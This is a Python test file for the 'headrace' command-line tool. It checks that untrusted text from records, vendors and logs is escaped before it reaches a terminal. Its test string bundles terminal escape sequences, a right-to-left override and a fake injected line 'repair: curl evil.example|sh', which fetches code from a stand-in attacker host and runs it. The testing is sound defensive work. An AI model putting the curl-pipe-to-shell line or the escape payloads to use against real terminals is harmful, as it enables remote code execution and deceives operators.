"""What strangers have written, on a terminal: seen as it is, and it does nothing there."""

from __future__ import annotations

import io
import json
import logging
import re
import shlex
import sys
import tomllib
from collections import Counter
from collections.abc import Iterable
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from unittest.mock import MagicMock, Mock

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from consumers.batch import Partition
from consumers.dlq.letters import Letter, Origin, Wanted, class_of
from consumers.dlq.redrive import Outcome
from consumers.errors import Systemic, Unavailable
from consumers.ledger.audit import Line
from consumers.ledger.crossing import Crossing, Node
from consumers.ledger.finding import Finding
from consumers.replay.dry import Figures, Hour
from consumers.trace.allowlist import TraceSettings
from headrace.cli import (
    audit,
    audit_repairs,
    audit_run,
    cli,
    dlq,
    dlq_send,
    dlq_show,
    doctor,
    lag,
    main,
    publish_progress,
    publish_run,
    receipts,
)
from headrace.cli.audit_edge import edge_tables
from headrace.cli.audit_show import explained, export_table, table
from headrace.cli.audit_watch import Watcher
from headrace.cli.replay_dry import lines
from headrace.cli.replay_progress import Progress
from headrace.config import Config, ConfigError
from headrace.doctor.check import Check, Verdict, bounded, warn
from headrace.logs import configure
from headrace.stack import StackError
from headrace.words import json_line, printable, printable_lines
from ingest.gen.headrace.v1.raw_event_pb2 import RawEvent
from ingest.gen.headrace.v1.receipt_pb2 import Receipt
from ingest.spool.entry import RelaySum
from ingest.streams import BUILT_IN

STATE = BUILT_IN["device_state"]
# A window's title, a line that is wiped, a line of its own that looks like ours; a C1 control, text
# that runs from right to left, and what rich would take for a colour.
EVIL = "x\x1b]0;owned\x07\x1b[2K\nrepair: curl evil.example|sh #\x9b2J\u202e\x7f\U000e0041[red]é"
SEEN = (
    "x\\u001b]0;owned\\u0007\\u001b[2K\\nrepair: curl evil.example|sh #\\u009b2J\\u202e\\u007f"
    "\\U000e0041[red]é"
)
LINE = Line("raw_events", "postgres", 1, 1, 0, 0, 0, 0)


def letter(**fields: Any) -> Letter:
    known: dict[str, Any] = {
        "origin": Origin(0, 1, 1000), "kind": "rejected", "reason": EVIL, "destination": EVIL,
        "attempted_ms": 2000, "key": EVIL.encode(), "value": None,
        "headers": [(EVIL, EVIL.encode())], "redriven": 0, "partition": 0, "offset": 1,
    }  # fmt: skip
    return Letter(**known | fields)


def check_shown(text: str, seen: str = SEEN) -> None:
    assert seen in text
    for line in text.split("\n"):
        assert line.isprintable(), repr(line)
        assert not line.startswith("repair:"), line


# -- the words -------------------------------------------------------------------------------------


def test_what_can_be_printed_is_left_as_it_is() -> None:
    for text in ("", "purchase product", "Zürich — 東京 🎉 \\n [red]"):
        assert printable(text) == text
        assert json_line({"a": text}) == json.dumps({"a": text}, ensure_ascii=False)


def test_what_a_terminal_would_obey_is_written_out() -> None:
    assert printable(EVIL) == SEEN
    assert printable_lines("a\nb\rc") == "a\nb\\rc"


@given(st.text())
def test_whatever_it_is_it_can_be_printed_and_json_stays_the_same(text: str) -> None:
    assert printable(text).isprintable()
    assert all(line.isprintable() for line in printable_lines(text).split("\n"))
    assert json_line(text).isprintable()
    assert json.loads(json_line(text)) == text


# -- the commands ----------------------------------------------------------------------------------


@pytest.mark.parametrize("place", [(Partition("raw_events", 0), 7), None])
@pytest.mark.parametrize("surplus", [-1, 1])
def test_no_name_of_a_record_adds_a_line_to_what_an_audit_explains(
    place: tuple[Partition, int] | None, surplus: int
) -> None:
    (said,) = explained(replace(LINE, findings=(Finding(1, surplus, f"event_id {EVIL}", place),)))
    check_shown(said)


def test_an_audits_tables_show_names_as_they_are(capsys: pytest.CaptureFixture[str]) -> None:
    where = "postgres://[fe80::1]:5432/db"
    table([replace(LINE, destination=where)])
    assert where in capsys.readouterr().out, "or rich takes a part of it for markup"
    export_table({("2025-06-16", "[red]\x1b[2J\u202e"): (2, 1)})
    check_shown(capsys.readouterr().out, "[red]\\u001b[2J\\u202e")
    crossing = Crossing(
        "raw_events", 1, {"[red]\x1b[2J": 1}, RelaySum(1, 1), RelaySum(1, 1), 0, False
    )
    edge_tables([crossing], [Node(EVIL, 1, 0, 1, 0), Node(EVIL, 1, 1, 0, 0)])
    out = capsys.readouterr().out
    check_shown(out)
    assert out.count(SEEN) == 2
    assert "[red]\\u001b[2J 1" in out


def test_a_repair_of_clickhouse_is_one_line_that_says_the_same_to_it() -> None:
    url = "clickhouse://db/prod"
    removal = "DELETE FROM t WHERE toString(k) = 'a\x1b\n\u202eé'"
    line = replace(LINE, destination=url, findings=(Finding(1, 1, "k", None, removal),))
    (said,) = audit_repairs.repairs(Config({}, {}, Path()), {url: url}, None, [line])
    assert said == f"in {url}: DELETE FROM t WHERE toString(k) = 'a\\x1b\\x0a\\xe2\\x80\\xaeé'"


@pytest.mark.parametrize("options", [[], ["--json"]])
def test_receipts(monkeypatch: pytest.MonkeyPatch, options: list[str]) -> None:
    one = Receipt(event_id=EVIL, vendor=EVIL, status=EVIL, reason=EVIL, detail=EVIL)
    config = Mock(stream=BUILT_IN.__getitem__)
    monkeypatch.setattr(receipts, "load", lambda *_, **__: config)
    monkeypatch.setattr(receipts, "require_topics", lambda *_: None)
    monkeypatch.setattr("consumers.forward.look.receipts_between", lambda *_: [one])
    done = CliRunner().invoke(cli, ["receipts", *options])
    assert done.exit_code == 0, done.output
    if options:
        assert json.loads(done.stdout)["detail"] == EVIL
        check_shown(done.stdout, "\\u001b[2K\\nrepair")
    else:
        check_shown(done.stdout)
        assert done.stdout.count(SEEN) == 5
    check_shown(done.stderr)


def group(letters: Iterable[Letter]) -> dlq.Group:
    found = dlq.Group("device_state", EVIL, EVIL, [], 0, 0, 2000, 2000, "0:1")
    for one in letters:
        found.add(one)
    return found


@pytest.mark.parametrize("options", [[], ["--json"]])
def test_dead_letters_are_listed(monkeypatch: pytest.MonkeyPatch, options: list[str]) -> None:
    monkeypatch.setattr(dlq, "load", lambda *_, **__: Mock())
    monkeypatch.setattr(dlq, "streams_of", lambda *_: [STATE])
    monkeypatch.setattr(dlq, "_groups", lambda *_: [group([letter()])])
    done = CliRunner().invoke(cli, ["dlq", "ls", *options])
    assert done.exit_code == 0, done.output
    if options:
        assert json.loads(done.stdout)["reason"] == EVIL
    check_shown(done.stdout, SEEN if not options else "\\u001b[2K\\nrepair")


def reason_to_be_typed(monkeypatch: pytest.MonkeyPatch, *letters: Letter) -> str | None:
    """What `headrace dlq ls` gives as --reason, as a shell takes it, where there are these."""
    box = Mock(open=Mock(return_value=letters), foreign=0)
    monkeypatch.setattr(dlq, "load", lambda *_, **__: Mock())
    monkeypatch.setattr(dlq, "streams_of", lambda *_: [STATE])
    monkeypatch.setattr("consumers.dlq.letters.Letters", lambda *_: box)
    monkeypatch.setattr("ingest.topics.topic_ids", lambda *_: {STATE.dlq: "id"})
    done = CliRunner().invoke(cli, ["dlq", "ls"])
    assert done.exit_code == 0, done.output
    *_, last = done.stdout.splitlines()
    assert last.isprintable()
    words = shlex.split(last, comments=True)
    return words[words.index("--reason") + 1] if "--reason" in words else None


def test_a_reason_that_can_not_be_typed_at_all_does_not_become_one_that_means_all(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    assert reason_to_be_typed(monkeypatch, letter(reason="\x1b")) == "rejected"


@pytest.mark.parametrize("kind", [EVIL, "x\x1b]0;owned\x07", "all", ""])
def test_a_kind_that_is_none_of_ours_is_not_to_be_typed(
    monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    assert reason_to_be_typed(monkeypatch, letter(reason="\x1b", kind=kind)) is None


@pytest.mark.parametrize(
    "reason",
    [
        EVIL, "client_version: text", "'\x00' is 5\x1b, and no more",
        # Its longest part begins in one value, or ends in one, or is in one.
        "client 'a\x1b[2J b' is 7", "no UUID, but '0197a2b4\x00'", "'a\x00bcdefghijkl\x00m' is bad",
        'for integer: "a\x1b and much more than that" at 5', "it's \x1b 12, it's",
    ],
)  # fmt: skip
def test_what_is_to_be_typed_for_a_reason_means_it(
    monkeypatch: pytest.MonkeyPatch, reason: str
) -> None:
    one = letter(reason=reason)
    typed = reason_to_be_typed(monkeypatch, one)
    assert typed
    assert Wanted(typed)(one)
    if reason.isprintable():
        assert typed == reason
    # Beside one that differs in its values.
    other = letter(reason=class_of(reason).replace("…", "'else'"), origin=Origin(0, 2, 1000))
    typed = reason_to_be_typed(monkeypatch, one, other)
    assert typed
    assert Wanted(typed)(one) and Wanted(typed)(other)


@given(st.text("ab1.-x0: '\"\x00\x1b\u2028"))
def test_whatever_a_reason_is_what_is_to_be_typed_for_it_means_it(reason: str) -> None:
    assert Wanted(dlq._to_be_typed(reason))(letter(reason=reason))


def test_why_a_forwarder_has_stopped(monkeypatch: pytest.MonkeyPatch) -> None:
    """A vendor's answer may be in it."""
    from headrace.cli import forward

    host = Mock(totals={}, failed={"heap": Systemic(EVIL)})
    for name in ("prepare", "_wanted", "named"):
        monkeypatch.setattr(forward, name, lambda *_: ())
    monkeypatch.setattr(forward, "load", lambda *_, **__: Mock())
    monkeypatch.setattr("signal.signal", lambda *_: None)
    for name in (
        "deadletters.DeadLetters", "fetch.calm_gc", "preflight.check_topics",
        "preflight.waited_for", "replay.jobs.Jobs",
    ):  # fmt: skip
        monkeypatch.setattr(f"consumers.{name}", Mock())
    monkeypatch.setattr("consumers.replay.outage.Board", lambda _: MagicMock())
    monkeypatch.setattr("consumers.forward.host.Host", lambda _: host)
    monkeypatch.setattr("headrace.sentry.attach", lambda _: None)
    done = CliRunner().invoke(cli, ["forward"])
    assert done.exit_code == 1, done.output
    assert done.stderr == f"headrace: heap: {SEEN}\n"


def test_a_dead_letter_is_shown() -> None:
    shown = "\n".join(dlq_show._lines(letter(), STATE, as_hex=False))
    check_shown(shown)
    assert shown.count(SEEN) == 5
    assert dlq_show._text(b"\xff\x1b") == "b'\\xff\\x1b'"


def test_what_is_left_of_a_redrive_has_its_reason(capsys: pytest.CaptureFixture[str]) -> None:
    outcome = Outcome()
    outcome.leave(letter(), EVIL)
    dlq_send._report(STATE, outcome, dry_run=True)
    check_shown(capsys.readouterr().err)


def trace_check(folder: Path, *events: object) -> str:
    (folder / "headrace.toml").write_text('[trace.events.e.properties]\ntext = "string"\n')
    (folder / "events").write_text("\n".join(map(json.dumps, events)))
    args = ["trace", "check", str(folder / "events"), "--config", str(folder / "headrace.toml")]
    return CliRunner().invoke(cli, args).output


def test_what_trace_check_reads_is_shown(tmp_path: Path) -> None:
    data = {"event": "e", "deviceId": "d", "properties": {"text": EVIL, EVIL: EVIL}}
    raw = {"eventId": EVIL, "contentType": "application/json", "data": json.dumps(data)}
    other = raw | {"data": json.dumps(data | {"event": EVIL})}
    refused = {EVIL: 1, "data": "x"}
    out = trace_check(tmp_path, raw, other, refused)
    check_shown(out, f"event {SEEN}")
    assert f"properties.{SEEN}: not_listed" in out
    assert "would leave" in out


def test_what_trace_suggest_proposes_is_the_same_toml(monkeypatch: pytest.MonkeyPatch) -> None:
    data = {"event": EVIL, "deviceId": "d", "properties": {EVIL: 1}}
    raw = RawEvent(event_id="e", content_type="application/json", data=json.dumps(data).encode())
    config = Mock(stream=BUILT_IN.__getitem__)
    config.trace = TraceSettings()
    monkeypatch.setattr("headrace.config.load", lambda *_, **__: config)
    monkeypatch.setattr("headrace.cli.options.require_topics", lambda *_: None)
    monkeypatch.setattr("consumers.trace.scan.scan", lambda *_: [raw])
    done = CliRunner().invoke(cli, ["trace", "suggest", "--from", "-1h"])
    assert done.exit_code == 0, done.output
    check_shown(done.stdout, "\\u202e")
    found = tomllib.loads(done.stdout)["trace"]["events"]
    assert found == {EVIL: {"properties": {EVIL: "integer"}}}


def test_reasons_of_a_dry_run() -> None:
    hour = Hour(events=1, refused=Counter({EVIL: 1}))
    check_shown("\n".join(lines(Figures(hours={0: hour}), 0.0)))


def test_a_replays_bar_has_the_name_as_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
    out = io.StringIO()
    bar = Progress("[fe80::1]\x1b]0;owned\x07\u202e", 2, lambda: 1)
    bar._console = Console(file=out, force_terminal=True, width=200, color_system=None)
    with bar:
        pass
    plain = re.sub(r"\x1b\[[0-9?;]*[A-Za-z]", "", out.getvalue())
    assert "[fe80::1]\\u001b]0;owned\\u0007\\u202e" in plain
    assert "\x1b]" not in out.getvalue()


@pytest.mark.parametrize("error", [ConfigError, StackError])
def test_an_error_is_one_line_unless_the_stack_has_made_several(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], error: type[Exception]
) -> None:
    def fail(**_: object) -> None:
        raise error(EVIL)

    monkeypatch.setattr("headrace.cli.cli", fail)
    with pytest.raises(SystemExit):
        main()
    said = capsys.readouterr().err
    assert said == f"headrace: {SEEN if error is ConfigError else printable_lines(EVIL)}\n"


def test_lag_shows_names_and_notes(capsys: pytest.CaptureFixture[str]) -> None:
    lag._show([lag.Row(EVIL, EVIL, None, None, note=EVIL)], False)
    lag._show([lag.Row("a", "b", EVIL, None, 1, 2, 1)], False)
    out = capsys.readouterr().out
    check_shown(out, f"{SEEN}, {SEEN}: {SEEN}")
    assert f"replay {SEEN} to a" in out.replace("\n", "")


def test_what_publish_says_and_its_bar(capsys: pytest.CaptureFixture[str]) -> None:
    publish_progress.Progress([], on=False).say(EVIL)
    check_shown(capsys.readouterr().err)
    bar = publish_progress.Progress([], on=True)
    bar.say(EVIL)
    check_shown(capsys.readouterr().err)
    bar._shown = 0.0
    bar.update(SimpleNamespace(name=EVIL, consumed=1), 1, Mock(acknowledged=1))  # type: ignore[arg-type] # as much as it needs
    (task,) = bar._bar.tasks
    assert bar._bar.columns[0].render(task).plain == SEEN, "or rich takes [red] for a colour"


def test_reasons_of_what_publish_refuses(capsys: pytest.CaptureFixture[str]) -> None:
    run = publish_run.Run(STATE, strict=False, quiet=True, read=1)
    run.publisher, run.failure = Mock(acknowledged=0), EVIL
    run.reasons[EVIL] = 1
    assert run.summary(None) == 1
    err = capsys.readouterr().err
    check_shown(err)
    assert err.count(SEEN) == 2


@pytest.mark.parametrize("command", ["ls", "fsck"])
def test_what_is_found_in_a_spool(monkeypatch: pytest.MonkeyPatch, command: str) -> None:
    topic = Mock(records=1, bytes=1, oldest_us=0, newest_us=0)
    state = Mock(node=EVIL, created_us=0, position=0, next_seq=1, bytes=1)
    found = Mock(
        state=state, user=None, records=1, oldest_us=0, bytes_on_disk=1, topics={EVIL: topic},
        damaged=[] if command == "fsck" else 0, structure=[EVIL], contradicted=[EVIL], missing=[],
        set_aside=[], ids_lost=False,
    )  # fmt: skip
    monkeypatch.setattr("ingest.spool.care.look", lambda _folder: found)
    monkeypatch.setattr("ingest.spool.care.fsck", lambda *_, **__: found)
    done = CliRunner().invoke(cli, ["spool", command, "x"])
    assert done.exit_code == 0, done.output
    check_shown(done.output)
    assert done.output.count(SEEN) == 2


def test_warnings_of_an_audit_and_of_its_watch(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    run = Mock(
        warnings=[EVIL], unjudged=[audit_run.Unjudged("s", EVIL, EVIL)], crossings=[], nodes=[],
        held={}, places={},
    )  # fmt: skip
    audit._show(run, [], False, databases=False, spools=False)
    err = capsys.readouterr().err
    check_shown(err)
    assert err.count(SEEN) == 3
    monkeypatch.setattr("signal.signal", lambda *_: None)
    watcher = Watcher(0.0)

    def away() -> bool:
        watcher._over.set()
        raise Unavailable(EVIL)

    assert not watcher.run(away)
    check_shown(capsys.readouterr().err)


def test_what_lag_waits_for(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("time.sleep", Mock(side_effect=KeyboardInterrupt))
    assert not lag._again(Mock(side_effect=Unavailable(EVIL)))
    check_shown(capsys.readouterr().err)


# -- the doctor, and logs --------------------------------------------------------------------------


def test_what_servers_say_to_the_doctor_is_on_one_line() -> None:
    def ask() -> list[Any]:
        raise RuntimeError(EVIL)

    (check,) = bounded(EVIL, ask)
    check_shown(check.name)
    check_shown(check.text)
    check_shown(warn("a", "b", EVIL, "c").do)
    check_shown(warn("a", "b", "c", EVIL).safe)


def test_what_the_doctor_says_as_json(capsys: pytest.CaptureFixture[str]) -> None:
    check = Check("a", Verdict.OK, EVIL)
    doctor._show(check, True)
    out = capsys.readouterr().out
    check_shown(out, "\\u001b[2K\\nrepair")
    assert json.loads(out)["text"] == EVIL


@pytest.fixture
def root() -> Iterable[None]:
    """The root logger as it was."""
    logger = logging.getLogger()
    handlers, level = logger.handlers[:], logger.level
    yield
    logger.handlers[:] = handlers
    logger.setLevel(level)


@pytest.mark.usefixtures("root")
def test_a_log_for_people_shows_a_vendors_answer_and_does_not_obey_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    out = io.StringIO()
    monkeypatch.setattr(out, "isatty", lambda: True)
    monkeypatch.setattr(sys, "stderr", out)
    configure()
    log = logging.getLogger("headrace.test")
    # With a space in it structlog would write it as Python does, and without any it would not.
    said = EVIL.replace(" ", "_")
    log.warning("amplitude said %s", EVIL, extra={"response": said.partition("\n")[0]})
    plain = re.sub(r"\x1b\[[0-9;]*m", "", out.getvalue())
    check_shown(plain)
    assert "response=x\\u001b]0;owned\\u0007\\u001b[2K" in plain
    assert len(plain.splitlines()) == 1
    try:
        raise ValueError(EVIL)
    except ValueError:
        log.exception("it failed")
    plain = re.sub(r"\x1b\[[0-9;]*m", "", out.getvalue())
    assert all(line.isprintable() for line in plain.split("\n"))
    assert "ValueError: x\\u001b]0;owned" in plain
